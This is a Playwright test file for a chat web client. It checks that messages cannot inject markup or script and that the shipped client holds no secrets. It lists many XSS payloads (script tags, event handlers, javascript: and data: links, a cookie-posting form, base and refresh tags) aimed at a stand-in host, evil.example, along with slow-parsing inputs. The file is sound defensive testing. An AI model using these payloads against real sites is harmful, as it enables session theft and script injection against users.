import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { openDevice } from '../../server/test/support/device.js';
import { People } from '../../server/test/support/people.js';
import { chat, roomName } from '../support/chat.js';
import { CLIENT_DIR, expect, test } from '../support/world.js';

const MARK = 'pwned';
const SCRIPTS = [
  `<script>window.${MARK}=1</script>`,
  `<img src=x onerror="window.${MARK}=1">`,
  `<svg/onload=window.${MARK}=1>`,
  `"><iframe srcdoc="<script>parent.${MARK}=1</script>">`,
  `<a href="javascript:window.${MARK}=1">x</a>`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `<form action=https://evil.example><input name=cookie id=body></form>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `&lt;script&gt;window.${MARK}=1&lt;/script&gt;`,
];
/** The same inside the marks of formatting, which are not shown as they are. */
const MARKUP = [
  `\`<script>window.${MARK}=1</script>\``,
  `\`\`\`html\n<img src=x onerror=window.${MARK}=1>\n\`\`\``,
  `**<b onmouseover=window.${MARK}=1>bold</b>**`,
];
const LINKS = [
  `javascript:window.${MARK}=1`,
  `[x](javascript:window.${MARK}=1)`,
  `<javascript:window.${MARK}=1>`,
  `java\tscript:window.${MARK}=1`,
  `JaVaScRiPt:window.${MARK}=1//http://a.example`,
  `[x](jav&#x09;ascript:window.${MARK}=1)`,
  `data:text/html,<script>window.${MARK}=1</script>`,
  `[x](data:text/html;base64,PHNjcmlwdD4)`,
  `vbscript:msgbox(1)`,
  `![x](https://evil.example/pixel.png)`,
  `https://good.example/a?b=c#d and http://other.example.`,
  `https://good.example"onmouseover="window.${MARK}=1`,
  `//evil.example/x`,
  `mailto:somebody@good.example`,
];
const SLOW = [
  '(',
  '*',
  '_',
  '~',
  '`',
  '[',
  '![',
  '[](',
  '> ',
  '- ',
  'a@',
  'http://',
  '<',
  '\n',
  '*a_',
  '**a',
].map((part) => part.repeat(Math.floor(499 / part.length)) + '.');

interface Sightings {
  dialogs: number;
  strangers: string[];
  violations: string[];
}

/** Watches what a page must never do, from before it is loaded. */
function watch(page: Page, url: string): Sightings {
  const seen: Sightings = { dialogs: 0, strangers: [], violations: [] };
  page.on('dialog', (dialog) => {
    seen.dialogs += 1;
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const { protocol, host } = new URL(request.url());
    if (/^(http|ws)s?:$/.test(protocol) && host !== new URL(url).host) seen.strangers.push(request.url());
  });
  page.on('console', (message) => {
    if (/content security policy/i.test(message.text())) seen.violations.push(message.text());
  });
  return seen;
}

/** What is in the timeline now: no markup of anybody's, and no links but those that may be followed. */
async function expectHarmless(page: Page): Promise<void> {
  const timeline = chat.messages(page);
  const foreign = 'script, iframe, object, embed, form, base, meta, style, link, input';
  await expect(timeline.locator(foreign)).toHaveCount(0);
  await expect(timeline.locator('img[src*="evil"], img[src="x"]')).toHaveCount(0);
  const attributes = await timeline
    .locator('*')
    .evaluateAll((all) => all.flatMap((each) => each.getAttributeNames()));
  expect(attributes.filter((attribute) => attribute.startsWith('on'))).toEqual([]);
  const links = await timeline.locator('a[href]').evaluateAll((all) =>
    all.map((each) => {
      const { protocol, origin, rel } = each as HTMLAnchorElement;
      return { protocol, isOurs: origin === window.location.origin, rel };
    }),
  );
  for (const { protocol, isOurs, rel } of links) {
    expect(['http:', 'https:', 'mailto:']).toContain(protocol);
    if (!isOurs) expect(rel).toMatch(/noopener/);
  }
}

test('S105 S106 S107 S123 S124 whatever is written is read as it is, and does nothing', async ({
  newcomer,
  server,
}) => {
  const mallory = await new People(server.url).logIn(`mallory-${String(process.pid)}`);
  const name = roomName('<b>Hostile</b>');
  const room = await new People(server.url).createRoom(mallory, name);
  const device = await openDevice(server.url, { token: mallory.token });
  const { page } = await newcomer('bob');
  const seen = watch(page, server.url);
  await chat.joinRoom(page, name);

  let count = 0;
  /** Writes them, waits until they are on the screen, and looks at what has become of them. */
  const expectHarmlessTexts = async (texts: string[]) => {
    for (const text of [...texts, `the end of ${String((count += 1))}`]) {
      const clientMsgId = crypto.randomUUID();
      await device.tell('message:send', { roomId: room.id, text, clientMsgId });
    }
    await chat.hears(page, `the end of ${String(count)}`);
    await expectHarmless(page);
  };
  for (const group of groupsOf(4, [...SLOW, '<'.repeat(500)])) await expectHarmlessTexts(group);
  for (const group of groupsOf(5, LINKS)) await expectHarmlessTexts(group);
  for (const group of groupsOf(5, MARKUP)) await expectHarmlessTexts(group);
  for (const group of groupsOf(5, SCRIPTS)) {
    await expectHarmlessTexts(group);
    for (const text of group) await expect(chat.messages(page)).toContainText(text);
  }

  await page.reload();
  await chat.hears(page, `the end of ${String(count)}`);
  await expectHarmless(page);
  await page.evaluate(() => {
    for (const data of ['logout', { type: 'auth:expired' }, { source: 'react-devtools-bridge' }])
      window.postMessage(data, '*');
  });
  await chat.say(page, 'still here');
  await chat.hears(page, 'still here');
  expect(await page.evaluate((mark) => mark in window, MARK)).toBe(false);
  expect(seen).toEqual({ dialogs: 0, strangers: [], violations: [] });
  await expect(page).toHaveURL(new RegExp(`^${server.url}`));
  device.close();
});

function groupsOf(size: number, texts: string[]): string[][] {
  return Array.from({ length: Math.ceil(texts.length / size) }, (_, n) =>
    texts.slice(n * size, (n + 1) * size),
  );
}

test('S135 the client that is handed out holds no secret and no source map', () => {
  const files = readdirSync(CLIENT_DIR, { recursive: true, encoding: 'utf8' });
  const texts = files.filter((file) => /\.(js|css|html|json)$/.test(file));
  expect(texts.length).toBeGreaterThan(2);
  expect(files.filter((file) => file.endsWith('.map'))).toEqual([]);
  for (const file of texts) {
    const text = readFileSync(join(CLIENT_DIR, file), 'utf8');
    expect(text, file).not.toMatch(
      /eyJ[\w-]{10,}\.|postgres(ql)?:\/\/|JWT_SECRET|DATABASE_URL|POSTGRES_PASSWORD|sourceMappingURL=/,
    );
  }
});
